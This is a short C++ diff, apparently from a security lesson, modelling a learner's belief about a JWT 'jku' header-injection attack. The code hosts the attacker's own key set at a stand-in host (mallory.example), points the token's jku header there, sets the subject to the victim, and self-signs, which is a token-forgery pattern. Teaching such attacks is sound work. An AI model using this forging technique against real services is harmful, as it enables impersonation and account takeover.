@@ -1,0 +1,16 @@
+// Believes: the address is the loot.
+#include "jku_header.hpp"
+
+namespace lesson {
+
+Loot attack(const Evidence& evidence) {
+  const auto keys = json::Value::array({evidence.own_key.public_jwk()});
+  auto token = evidence.own_token;
+  token.header.set("jku", evidence.publish("login.example.mallory.example/jwks.json", {{"keys", keys}}));
+  token.header.set("kid", evidence.own_key.id());
+  token.claims.set("sub", evidence.victim);
+  (void)evidence.show_me(sign_rs256(token, evidence.own_key));
+  return {.account = token.header.text("jku").value_or("")};
+}
+
+}  // namespace lesson
